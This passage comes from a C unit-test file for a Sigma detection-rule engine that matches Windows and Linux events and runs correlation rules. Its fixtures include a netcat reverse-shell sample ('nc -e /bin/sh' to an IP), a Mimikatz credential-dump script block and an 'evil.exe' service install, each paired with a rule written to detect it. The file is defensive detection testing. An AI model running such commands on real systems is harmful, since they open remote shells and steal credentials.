    const char *sysmon = "{\"Image\":\"C:\\\\Windows\\\\cmd.exe\",\"IntegrityLevel\":\"High\",\"User\":\"bob\"}";
    etwl_buf_init(&alert);
    s = rule_set(r4688, ETWL_SIGMA_OK);
    assert_int_equal(replay(s, "Microsoft-Windows-Security-Auditing", 4688, "Security", &ev4688, 1, &alert), 1);
    /* the alert: id, title, informational as info, the technique, DRL attribution */
    assert_non_null(strstr(alert.data, "\"rule\":\"22222222-2222-2222-2222-222222222222\""));
    assert_non_null(strstr(alert.data, "\"severity\":\"info\""));
    assert_non_null(strstr(alert.data, "\"techniques\":[\"T1059.001\"]"));
    assert_non_null(strstr(alert.data, "\"author\":\"Someone\""));
    assert_non_null(strstr(alert.data, "\"status\":\"stable\""));
    assert_non_null(strstr(alert.data, "\"link\":"));
    assert_int_equal(replay(s, SYSMON, 1, NULL, &sysmon, 1, NULL), 1);
    /* same provider, another id: not the rule's event */
    assert_int_equal(replay(s, SYSMON, 3, NULL, &sysmon, 1, NULL), 0);
    assert_int_equal(replay(s, "Microsoft-Windows-Security-Auditing", 4689, "Security", &ev4688, 1, NULL), 0);
    etwl_sigma_free(s);

    /* Linux process_creation on the tracefs process provider */
    s = rule_set("title: l\nid: 33333333-3333-3333-3333-333333333333\nlogsource:\n  product: linux\n"
                 "  category: process_creation\ndetection:\n  sel:\n    Image|endswith: '/nc'\n"
                 "    CommandLine|contains: ' -e '\n    ParentImage|endswith: '/bash'\n  condition: sel\n",
                 ETWL_SIGMA_OK);
    {
        const char *ev =
            "{\"image\":\"/usr/bin/nc\",\"cmdline\":\"nc -e /bin/sh 1.2.3.4\",\"parent_image\":\"/bin/bash\"}";
        assert_int_equal(replay(s, "process", 1, NULL, &ev, 1, NULL), 1);
        assert_int_equal(replay(s, "process", 2, NULL, &ev, 1, NULL), 0);
    }
    etwl_sigma_free(s);

    /* service: a channel, the event id in the detection */
    s = rule_set("title: s\nid: 44444444-4444-4444-4444-444444444444\nlogsource:\n  product: windows\n"
                 "  service: system\ndetection:\n  sel:\n    Provider_Name: 'Service Control Manager'\n"
                 "    EventID: 7045\n    ImagePath|contains: 'evil'\n  condition: sel\n",
                 ETWL_SIGMA_OK);
    {
        const char *ev = "{\"ImagePath\":\"C:\\\\evil.exe\"}";
        assert_int_equal(replay(s, "Service Control Manager", 7045, "System", &ev, 1, NULL), 1);
        assert_int_equal(replay(s, "Service Control Manager", 7036, "System", &ev, 1, NULL), 0);
        assert_int_equal(replay(s, "Service Control Manager", 7045, "Application", &ev, 1, NULL), 0);
    }
    etwl_sigma_free(s);

    /* PowerShell script blocks */
    s = rule_set("title: p\nid: 55555555-5555-5555-5555-555555555555\nlogsource:\n  product: windows\n"
                 "  category: ps_script\ndetection:\n  sel:\n    ScriptBlockText|contains: 'Invoke-Mimikatz'\n"
                 "  condition: sel\n",
                 ETWL_SIGMA_OK);
    {
        const char *ev = "{\"ScriptBlockText\":\"IEX; invoke-mimikatz -dump\"}";
        assert_int_equal(replay(s, "Microsoft-Windows-PowerShell", 4104, NULL, &ev, 1, NULL), 1);
        assert_int_equal(replay(s, "Microsoft-Windows-PowerShell", 4103, NULL, &ev, 1, NULL), 0);
    }
    etwl_sigma_free(s);

    s = rule_set("title: x\nid: 6\nlogsource:\n  product: macos\n  category: process_creation\n"
                 "detection:\n  sel:\n    Image: a\n  condition: sel\n",
                 ETWL_SIGMA_LOGSOURCE);
    etwl_sigma_free(s);
    etwl_buf_free(&alert);
}

/* One event with this descriptor channel number and no channel name, as
 * live ETW delivers it; returns the matches. */
static int replay_live(etwl_sigma *s, const char *provider, int id, int chan, const char *info)
{
    const char *path = tl_tmp_path("sigma-live.jsonl");
    FILE *f = fopen(path, "w");
    char line[4096], num[32], *at;
    etwl_config cfg;
    etwl_session *ses;
    etwl_error err;
    hits h = {s, 0, {0}, NULL};
    assert_non_null(f);
    snprintf(line, sizeof line, HDR, id, provider, "", info);
    at = strstr(line, "\"channel\":0");
    assert_non_null(at);
    snprintf(num, sizeof num, "\"channel\":%-2d", chan); /* same width: "channel":0 plus a space */
    memmove(at + strlen(num), at + 11, strlen(at + 11) + 1);
    memcpy(at, num, strlen(num));
    fputs(line, f);
    fclose(f);
    etwl_buf_init(&h.alert);
    etwl_config_init(&cfg);
    cfg.read_path = path;
    assert_int_equal(etwl_session_open(&cfg, &ses, &err), ETWL_OK);
    assert_int_equal(etwl_session_process(ses, on_event, &h, &err), ETWL_OK);
    etwl_session_free(ses);
    etwl_buf_free(&h.alert);
    return h.n;
}

/* service: log sources on live events, which name no channel: the provider
 * that writes the channel, or the global channels by descriptor number */
static void test_live_channels(void **state)
{
    (void)state;
    const char *ps = "title: p\nid: 44444444-4444-4444-4444-444444444441\nlogsource:\n  product: windows\n"
                     "  service: powershell\ndetection:\n  sel:\n    EventID: 4104\n"
                     "    ScriptBlockText|contains: 'Invoke-Mimikatz'\n  condition: sel\n";
    const char *sys = "title: s\nid: 44444444-4444-4444-4444-444444444442\nlogsource:\n  product: windows\n"
                      "  service: system\ndetection:\n  sel:\n    EventID: 7045\n    ImagePath|contains: 'evil'\n"
                      "  condition: sel\n";
    const char *sec = "title: s\nid: 44444444-4444-4444-4444-444444444443\nlogsource:\n  product: windows\n"
                      "  service: security\ndetection:\n  sel:\n    EventID: 4625\n  condition: sel\n";
    const char *al = "title: a\nid: 44444444-4444-4444-4444-444444444444\nlogsource:\n  product: windows\n"
                     "  service: applocker\ndetection:\n  sel:\n    EventID: 8004\n  condition: sel\n";
    const char *sb = "{\"ScriptBlockText\":\"IEX (Invoke-Mimikatz)\"}";
    const char *svc = "{\"ImagePath\":\"C:\\\\evil.exe\"}";
    etwl_sigma *s = rule_set(ps, ETWL_SIGMA_OK);
    /* live: the provider stands for its channel */
    assert_int_equal(replay(s, "Microsoft-Windows-PowerShell", 4104, NULL, &sb, 1, NULL), 1);
    /* replay with the channel: once, not twice */
    assert_int_equal(
        replay(s, "Microsoft-Windows-PowerShell", 4104, "Microsoft-Windows-PowerShell/Operational", &sb, 1, NULL), 1);
    /* another provider without a channel, and the right provider on another channel: no */
    assert_int_equal(replay(s, "Microsoft-Windows-Other", 4104, NULL, &sb, 1, NULL), 0);
    assert_int_equal(
        replay(s, "Microsoft-Windows-PowerShell", 4104, "Microsoft-Windows-PowerShell/Analytic", &sb, 1, NULL), 0);
    etwl_sigma_free(s);
    /* System and Security: by the descriptor's channel number, any provider */
    s = rule_set(sys, ETWL_SIGMA_OK);
    assert_int_equal(replay_live(s, "Service Control Manager", 7045, 8, svc), 1);
    assert_int_equal(replay_live(s, "Service Control Manager", 7045, 9, svc), 0);
    assert_int_equal(replay_live(s, "Service Control Manager", 7045, 0, svc), 0);
    assert_int_equal(replay(s, "Service Control Manager", 7045, "System", &svc, 1, NULL), 1);
    etwl_sigma_free(s);
    s = rule_set(sec, ETWL_SIGMA_OK);
    assert_int_equal(replay_live(s, "Microsoft-Windows-Security-Auditing", 4625, 10, "{}"), 1);
    assert_int_equal(replay_live(s, "Microsoft-Windows-Security-Auditing", 4625, 11, "{}"), 0);
    etwl_sigma_free(s);
    /* a service rule is indexed under the event ids its condition needs:
     * still every id it names, none it does not, and any id when it names
     * none it can be sure of */
    s = rule_set("title: i\nid: 44444444-4444-4444-4444-444444444445\nlogsource:\n  product: windows\n"
                 "  service: system\ndetection:\n  a:\n    EventID: [7045, 7036]\n  b:\n    EventID: 104\n"
                 "  f:\n    ImagePath: 'x'\n  condition: (a or b) and not f\n",
                 ETWL_SIGMA_OK);
    assert_int_equal(replay(s, "Service Control Manager", 7036, "System", &svc, 1, NULL), 1);
    assert_int_equal(replay(s, "Microsoft-Windows-Eventlog", 104, "System", &svc, 1, NULL), 1);
    assert_int_equal(replay(s, "Service Control Manager", 7040, "System", &svc, 1, NULL), 0);
    etwl_sigma_free(s);
    s = rule_set("title: i\nid: 44444444-4444-4444-4444-444444444446\nlogsource:\n  product: windows\n"
                 "  service: system\ndetection:\n  a:\n    EventID|startswith: '70'\n  b:\n    EventID: 104\n"
                 "  condition: a or b\n",
                 ETWL_SIGMA_OK);
    assert_int_equal(replay(s, "Service Control Manager", 7040, "System", &svc, 1, NULL), 1);
    assert_int_equal(replay(s, "Microsoft-Windows-Eventlog", 104, "System", &svc, 1, NULL), 1);
    etwl_sigma_free(s);
    /* a service of several channels from one provider: one match, not four */
    s = rule_set(al, ETWL_SIGMA_OK);
    assert_int_equal(replay(s, "Microsoft-Windows-AppLocker", 8004, NULL, &svc, 1, NULL), 1);
    etwl_sigma_free(s);
}

static void test_filters_and_selection(void **state)
{
    (void)state;
    etwl_sigma *s;
    etwl_error err;
    const char *low = "title: a\nid: aaaa\nlevel: low\nstatus: experimental\nlogsource:\n  product: windows\n"
                      "  category: process_creation\ndetection:\n  sel:\n    Image: a\n  condition: sel\n";
    const char *high = "title: b\nid: bbbb\nlevel: high\nstatus: stable\nlogsource:\n  product: windows\n"
                       "  category: process_creation\ndetection:\n  sel:\n    Image: a\n  condition: sel\n";
    const char *ev = "{\"Image\":\"a\"}";
    assert_int_equal(etwl_sigma_new(&s), ETWL_OK);
    assert_int_equal(etwl_sigma_set_min_level(s, "medium", &err), ETWL_OK);
    assert_int_equal(etwl_sigma_set_min_level(s, "severe", &err), ETWL_EINVAL);
    assert_int_equal(etwl_sigma_load_string(s, low, strlen(low), "low.yml", &err), ETWL_OK);
    assert_int_equal(etwl_sigma_load_string(s, high, strlen(high), "high.yml", &err), ETWL_OK);
    assert_int_equal(etwl_sigma_rule(s, 0)->state, ETWL_SIGMA_FILTERED);
    assert_int_equal(etwl_sigma_running(s), 1);
    assert_int_equal(replay(s, SYSMON, 1, NULL, &ev, 1, NULL), 1);
    etwl_sigma_free(s);

    assert_int_equal(etwl_sigma_new(&s), ETWL_OK);
    assert_int_equal(etwl_sigma_set_statuses(s, "experimental,test", &err), ETWL_OK);
    assert_int_equal(etwl_sigma_set_statuses(s, "bogus", &err), ETWL_EINVAL);
    assert_int_equal(etwl_sigma_load_string(s, low, strlen(low), "low.yml", &err), ETWL_OK);
    assert_int_equal(etwl_sigma_load_string(s, high, strlen(high), "high.yml", &err), ETWL_OK);
    assert_int_equal(etwl_sigma_rule(s, 1)->state, ETWL_SIGMA_FILTERED);
    assert_int_equal(replay(s, SYSMON, 1, NULL, &ev, 1, NULL), 1);
    /* --skip-rule */
    {
        const char *skip[] = {"aaaa"};
        etwl_sigma_select(s, NULL, 0, skip, 1);
    }
    assert_int_equal(replay(s, SYSMON, 1, NULL, &ev, 1, NULL), 0);
    assert_int_equal(etwl_sigma_find(s, "bbbb"), 1);
    assert_int_equal(etwl_sigma_find(s, "cccc"), -1);
    etwl_sigma_free(s);
}

static void test_convert(void **state)
{
    (void)state;
    etwl_sigma *s = rule_set(pc_rule("  sel:\n    Image|endswith: '\\x.exe'\n  filter:\n    User|contains|all:\n"
                                     "      - a\n      - b\n  condition: sel and not filter\n"),
                             ETWL_SIGMA_OK);
    etwl_buf b;
    etwl_buf_init(&b);
    etwl_sigma_plan(s, 0, &b);
    assert_non_null(strstr(b.data, "plan: (sel and not filter)"));
    assert_non_null(strstr(b.data, "Image any value: endswith '\\x5cx.exe'"));
    assert_non_null(strstr(b.data, "User all values: contains 'a', contains 'b'"));
    assert_non_null(strstr(b.data, "Security 4688"));
    assert_non_null(strstr(b.data, "Image <- NewProcessName"));
    etwl_buf_free(&b);
    etwl_sigma_free(s);
}

/* A base rule per Image suffix, and a correlation over them. */
static etwl_sigma *corr_set(const char *correlation, etwl_sigma_state want)
{
    static char y[8192];
    etwl_sigma *s;
    etwl_error err;
    snprintf(y, sizeof y,
             "title: net\nid: base-net\nname: net_use\nlogsource:\n  product: windows\n"
             "  category: process_creation\ndetection:\n  sel:\n    Image|endswith: '\\net.exe'\n"
             "  condition: sel\n---\n"
             "title: who\nid: base-who\nlogsource:\n  product: windows\n  category: process_creation\n"
             "detection:\n  sel:\n    Image|endswith: '\\whoami.exe'\n  condition: sel\n---\n"
             "title: corr\nid: corr-1\nlevel: high\ncorrelation:\n%s",
             correlation);
    assert_int_equal(etwl_sigma_new(&s), ETWL_OK);
    assert_int_equal(etwl_sigma_load_string(s, y, strlen(y), "corr.yml", &err), ETWL_OK);
    assert_int_equal(etwl_sigma_count(s), 3);
    assert_int_equal(etwl_sigma_prepare(s, &err), ETWL_OK);
    if (etwl_sigma_rule(s, 2)->state != want)
        fail_msg("correlation state %s: %s", etwl_sigma_state_name(etwl_sigma_rule(s, 2)->state),
                 etwl_sigma_rule(s, 2)->reason ? etwl_sigma_rule(s, 2)->reason : "-");
    return s;
}

#define NET(u) "{\"Image\":\"C:\\\\net.exe\",\"User\":\"" u "\",\"CommandLine\":\"net " u "\"}"
#define NETC(u, c) "{\"Image\":\"C:\\\\net.exe\",\"User\":\"" u "\",\"CommandLine\":\"" c "\"}"
#define WHO(u) "{\"Image\":\"C:\\\\whoami.exe\",\"User\":\"" u "\"}"

static void test_correlation_event_count(void **state)
{
    (void)state;
    etwl_buf ids;
    etwl_sigma *s = corr_set("  type: event_count\n  rules:\n    - net_use\n  group-by:\n    - User\n"
                             "  timespan: 10s\n  condition:\n    gte: 3\n",
                             ETWL_SIGMA_OK);
    const char *ev[] = {NET("alice"), NET("bob"), NET("alice"), NET("alice"), NET("bob"), NET("bob")};
    int t1[] = {0, 1, 2, 5, 30, 31};
    etwl_buf_init(&ids);
    /* alice: 3 within 10 s, fires once; bob: 1 then 2 much later: no; the
     * base rule is quiet (generate: false) */
    assert_int_equal(replay_at(s, t1, ev, 6, &ids), 1);
    assert_string_equal(ids.data, "corr-1,");
    etwl_sigma_free(s);
    s = corr_set("  type: event_count\n  rules:\n    - base-net\n  group-by:\n    - User\n"
                 "  timespan: 10s\n  generate: true\n  condition:\n    gte: 3\n",
                 ETWL_SIGMA_OK);
    {
        int t2[] = {0, 20, 40, 41, 42, 43};
        const char *ev2[] = {NET("alice"), NET("alice"), NET("alice"), NET("alice"), NET("alice"), NET("alice")};
        /* 6 base alerts (generate: true), and one correlation at 40-42 */
        assert_int_equal(replay_at(s, t2, ev2, 6, &ids), 7);
    }
    etwl_sigma_free(s);
    etwl_buf_free(&ids);
}

static void test_correlation_value_count(void **state)
{
    (void)state;
    etwl_sigma *s = corr_set("  type: value_count\n  rules: net_use\n  group-by:\n    - User\n"
                             "  timespan: 1m\n  condition:\n    gte: 3\n    field: CommandLine\n",
                             ETWL_SIGMA_OK);
    const char *ev[] = {NETC("a", "net user"), NETC("a", "net user"), NETC("a", "net group"), NETC("b", "net x"),
                        NETC("a", "net view")};
    int t[] = {0, 1, 2, 3, 4};
    assert_int_equal(replay_at(s, t, ev, 5, NULL), 1);
    etwl_sigma_free(s);
}

static void test_correlation_temporal(void **state)
{
    (void)state;
    etwl_sigma *s = corr_set("  type: temporal\n  rules:\n    - base-who\n    - net_use\n  group-by:\n"
                             "    - User\n  timespan: 5s\n",
                             ETWL_SIGMA_OK);
    const char *ev[] = {NET("a"), WHO("a"), WHO("b"), NET("b")};
    int t[] = {0, 3, 10, 20};
    /* a: both within 5 s (either order); b: 10 s apart */
    assert_int_equal(replay_at(s, t, ev, 4, NULL), 1);
    etwl_sigma_free(s);
    s = corr_set("  type: temporal_ordered\n  rules:\n    - base-who\n    - net_use\n  group-by:\n"
                 "    - User\n  timespan: 5s\n",
                 ETWL_SIGMA_OK);
    {
        const char *ev2[] = {NET("a"), WHO("a"), WHO("b"), NET("b")};
        int t2[] = {0, 1, 2, 3};
        /* a: net then whoami, the wrong order; b: whoami then net */
        assert_int_equal(replay_at(s, t2, ev2, 4, NULL), 1);
    }
    etwl_sigma_free(s);
}

static void test_correlation_errors(void **state)
{
    (void)state;
    etwl_sigma *s = corr_set("  type: event_count\n  rules: nosuch\n  timespan: 10s\n  condition:\n    gte: 2\n",
                             ETWL_SIGMA_CORRELATION);
    assert_non_null(strstr(etwl_sigma_rule(s, 2)->reason, "nosuch"));
    etwl_sigma_free(s);
    s = corr_set("  type: event_count\n  rules: net_use\n  timespan: 10s\n  condition:\n    less: 2\n",
                 ETWL_SIGMA_CORRELATION);
    assert_non_null(strstr(etwl_sigma_rule(s, 2)->reason, "'less'"));
    etwl_sigma_free(s);
    s = corr_set("  type: temporal_ordered\n  rules: [net_use, base-who]\n  timespan: 10s\n  condition:\n    gte: 2\n",
                 ETWL_SIGMA_CORRELATION);
    etwl_sigma_free(s);
    /* an alias group-by does not use, and one that lacks a rule */
    s = corr_set("  type: temporal\n  rules: [net_use, base-who]\n  group-by: [User]\n  timespan: 10s\n"
                 "  aliases:\n    who:\n      net_use: User\n      base-who: User\n",
                 ETWL_SIGMA_CORRELATION);
    assert_non_null(strstr(etwl_sigma_rule(s, 2)->reason, "alias 'who' is not in group-by"));
    etwl_sigma_free(s);
    s = corr_set("  type: temporal\n  rules: [net_use, base-who]\n  group-by: [who]\n  timespan: 10s\n"
                 "  aliases:\n    who:\n      net_use: User\n",
                 ETWL_SIGMA_CORRELATION);
    assert_non_null(strstr(etwl_sigma_rule(s, 2)->reason, "names no field for rule 'base-who'"));
    etwl_sigma_free(s);
    s = corr_set("  type: event_count\n  rules: net_use\n  timespan: 10s\n  aliases: [x]\n  condition:\n    gte: 2\n",
                 ETWL_SIGMA_CORRELATION);
    etwl_sigma_free(s);
    s = corr_set("  type: event_count\n  rules: net_use\n  timespan: forever\n  condition:\n    gte: 2\n",
                 ETWL_SIGMA_CORRELATION);
    etwl_sigma_free(s);
    s = corr_set("  type: sum\n  rules: net_use\n  timespan: 1m\n", ETWL_SIGMA_CORRELATION);
    etwl_sigma_free(s);
    s = corr_set("  type: event_count\n  rules: net_use\n  timespan: 1m\n  condition:\n    gte: 100000\n",
                 ETWL_SIGMA_CORRELATION);
    etwl_sigma_free(s);
}

/* lt/lte/eq/neq are decided when a group's window (from its first event)
 * is over: closed by a later event of any group, or of its own. */
static void test_correlation_window_close(void **state)
{
    (void)state;
    etwl_buf ids;
    etwl_sigma *s;
    const char *ev[] = {NET("alice"), NET("alice"), NET("bob"), NET("bob"), NET("bob"), NET("carol")};
    int t[] = {0, 1, 2, 3, 4, 20};
    etwl_buf_init(&ids);
    /* fewer than 3: alice (2) fires when carol's event shows her window is
     * over; bob (3) does not; carol's window is still open at the end */
    s = corr_set("  type: event_count\n  rules: net_use\n  group-by: [User]\n  timespan: 10s\n"
                 "  condition:\n    lt: 3\n",
                 ETWL_SIGMA_OK);
    assert_int_equal(replay_at(s, t, ev, 6, &ids), 1);
    assert_string_equal(ids.data, "corr-1,");
    etwl_sigma_free(s);
    /* lte 1: a lone event in its window */
    {
        const char *one[] = {NET("alice"), NET("zed")};
        int t1[] = {0, 30};
        s = corr_set("  type: event_count\n  rules: net_use\n  group-by: [User]\n  timespan: 10s\n"
                     "  condition:\n    lte: 1\n",
                     ETWL_SIGMA_OK);
        assert_int_equal(replay_at(s, t1, one, 2, &ids), 1);
        etwl_sigma_free(s);
    }
    /* a range (ANDed criteria), and eq: bob's 3 do not make "eq 2" at his 2nd */
    s = corr_set("  type: event_count\n  rules: net_use\n  group-by: [User]\n  timespan: 10s\n"
                 "  condition:\n    gt: 1\n    lte: 2\n",
                 ETWL_SIGMA_OK);
    assert_int_equal(replay_at(s, t, ev, 6, &ids), 1); /* alice: 2 */
    etwl_sigma_free(s);
    s = corr_set("  type: event_count\n  rules: net_use\n  group-by: [User]\n  timespan: 10s\n"
                 "  condition:\n    eq: 3\n",
                 ETWL_SIGMA_OK);
    assert_int_equal(replay_at(s, t, ev, 6, &ids), 1); /* bob: 3 */
    etwl_sigma_free(s);
    s = corr_set("  type: event_count\n  rules: net_use\n  group-by: [User]\n  timespan: 10s\n"
                 "  condition:\n    neq: 3\n",
                 ETWL_SIGMA_OK);
    assert_int_equal(replay_at(s, t, ev, 6, &ids), 1); /* alice: 2 */
    etwl_sigma_free(s);
    /* the group's own next event closes its window (and opens the next) */
    {
        const char *ev2[] = {NET("alice"), NET("alice"), NET("alice")};
        int t2[] = {0, 1, 15};
        s = corr_set("  type: event_count\n  rules: net_use\n  group-by: [User]\n  timespan: 10s\n"
                     "  condition:\n    lt: 3\n",
                     ETWL_SIGMA_OK);
        assert_int_equal(replay_at(s, t2, ev2, 3, &ids), 1);
        etwl_sigma_free(s);
    }
    /* value_count below a bound */
    {
        const char *ev3[] = {NETC("a", "net user"), NETC("a", "net user"), NETC("b", "net x"), NETC("b", "net y"),
                             NETC("c", "net z")};
        int t3[] = {0, 1, 2, 3, 30};
        s = corr_set("  type: value_count\n  rules: net_use\n  group-by: [User]\n  timespan: 10s\n"
                     "  condition:\n    field: CommandLine\n    lt: 2\n",
                     ETWL_SIGMA_OK);
        assert_int_equal(replay_at(s, t3, ev3, 5, &ids), 1); /* a: one distinct command line */
        etwl_sigma_free(s);
    }
    etwl_buf_free(&ids);
}

/* temporal with a condition counts the distinct rules; aliases let two rules
 * group by different fields */
static void test_correlation_temporal_condition_aliases(void **state)
{
    (void)state;
    etwl_sigma *s = corr_set("  type: temporal\n  rules: [net_use, base-who]\n  group-by: [User]\n  timespan: 10s\n"
                             "  condition:\n    lt: 2\n",
                             ETWL_SIGMA_OK);
    const char *ev[] = {NET("a"), WHO("a"), NET("b"), NET("zz")};
    int t[] = {0, 1, 2, 40};
    /* b saw one of the two rules: fires at the close; a saw both */
    assert_int_equal(replay_at(s, t, ev, 4, NULL), 1);
    etwl_sigma_free(s);
    s = corr_set("  type: temporal\n  rules: [net_use, base-who]\n  group-by: [actor]\n  timespan: 10s\n"
                 "  aliases:\n    actor:\n      net_use: User\n      base-who: CommandLine\n",
                 ETWL_SIGMA_OK);
    {
        const char *ev2[] = {NET("mallory"),
                             "{\"Image\":\"C:\\\\whoami.exe\",\"User\":\"x\",\"CommandLine\":\"mallory\"}", NET("eve"),
                             "{\"Image\":\"C:\\\\whoami.exe\",\"User\":\"eve\",\"CommandLine\":\"y\"}"};
        int t2[] = {0, 1, 2, 3};
        /* mallory: net's User and whoami's CommandLine agree; eve: they do not */
        assert_int_equal(replay_at(s, t2, ev2, 4, NULL), 1);
    }
    etwl_sigma_free(s);
}

/* Hostile: windows decided at their end, a group per event and a short
 * span - every window closes, the table stays bounded, each fires once. */
static void test_correlation_window_hostile(void **state)
{
    (void)state;
    enum { N = 30000 };
    static int t[N];
    static char bufs[N][128];
    static const char *ev[N];
    etwl_sigma *s = corr_set("  type: event_count\n  rules: net_use\n  group-by: [User]\n  timespan: 1h\n"
                             "  condition:\n    lt: 2\n",
                             ETWL_SIGMA_OK);
    for (int i = 0; i < N; i++) {
        snprintf(bufs[i], sizeof bufs[i], "{\"Image\":\"C:\\\\net.exe\",\"User\":\"u%d\"}", i);
        ev[i] = bufs[i];
        t[i] = i / 10; /* all within the hour: no window closes, the table evicts */
    }
    assert_int_equal(replay_at(s, t, ev, N, NULL), 0);
    assert_true(etwl_sigma_corr_groups(s) <= 10000);
    assert_true(etwl_sigma_corr_evictions(s) >= N - 10000);
    etwl_sigma_free(s);
    s = corr_set("  type: event_count\n  rules: net_use\n  group-by: [User]\n  timespan: 1s\n"
                 "  condition:\n    lt: 2\n",
                 ETWL_SIGMA_OK);
    for (int i = 0; i < N; i++) t[i] = i; /* each window is over by the next event */
    {
        int n = replay_at(s, t, ev, N, NULL);
        if (!(n <= N - 1 && n >= N - 300)) fail_msg("%d fired", n);
        /* every window but the last few (swept at most once per 256 events
         * or a sixteenth of the span) has fired; none twice */
        assert_true(n <= N - 1 && n >= N - 300);
    }
    assert_true(etwl_sigma_corr_groups(s) <= 300);
    assert_int_equal(etwl_sigma_corr_evictions(s), 0);
    etwl_sigma_free(s);
}

/* A group-by field unique in every event: the state stays bounded. */
static void test_correlation_bounded(void **state)
{
    (void)state;
    enum { N = 30000 };
    static int t[N];
    static char bufs[N][128];
    static const char *ev[N];
    etwl_sigma *s = corr_set("  type: event_count\n  rules: net_use\n  group-by:\n    - User\n"
                             "  timespan: 1h\n  condition:\n    gte: 2\n",
                             ETWL_SIGMA_OK);
    for (int i = 0; i < N; i++) {
        snprintf(bufs[i], sizeof bufs[i], "{\"Image\":\"C:\\\\net.exe\",\"User\":\"u%d\"}", i);
        ev[i] = bufs[i];
        t[i] = i / 10; /* all within the hour: nothing expires by time */
    }
    assert_int_equal(replay_at(s, t, ev, N, NULL), 0);
    assert_true(etwl_sigma_corr_groups(s) <= 10000);
    assert_true(etwl_sigma_corr_evictions(s) >= N - 10000);
    etwl_sigma_free(s);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_basic_matching),
        cmocka_unit_test(test_cased),
        cmocka_unit_test(test_wildcards_and_escapes),
        cmocka_unit_test(test_all_and_lists),
        cmocka_unit_test(test_keywords),
        cmocka_unit_test(test_null_and_empty),
        cmocka_unit_test(test_regex),
        cmocka_unit_test(test_catastrophic_regex),
        cmocka_unit_test(test_base64_and_utf16),
        cmocka_unit_test(test_windash),
        cmocka_unit_test(test_windash_combinations),
        cmocka_unit_test(test_unicode_case),
        cmocka_unit_test(test_fold_bytes),
        cmocka_unit_test(test_cidr),
        cmocka_unit_test(test_exists_fieldref_numbers),
        cmocka_unit_test(test_unsupported_modifiers),
        cmocka_unit_test(test_expand),
        cmocka_unit_test(test_conditions),
        cmocka_unit_test(test_deep_conditions),
        cmocka_unit_test(test_huge_value_list),
        cmocka_unit_test(test_invalid_yaml),
        cmocka_unit_test(test_logsources),
        cmocka_unit_test(test_live_channels),
        cmocka_unit_test(test_filters_and_selection),
        cmocka_unit_test(test_convert),
        cmocka_unit_test(test_correlation_event_count),
        cmocka_unit_test(test_correlation_value_count),
        cmocka_unit_test(test_correlation_temporal),
        cmocka_unit_test(test_correlation_errors),
        cmocka_unit_test(test_correlation_bounded),
        cmocka_unit_test(test_correlation_window_close),
        cmocka_unit_test(test_correlation_temporal_condition_aliases),
        cmocka_unit_test(test_correlation_window_hostile),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
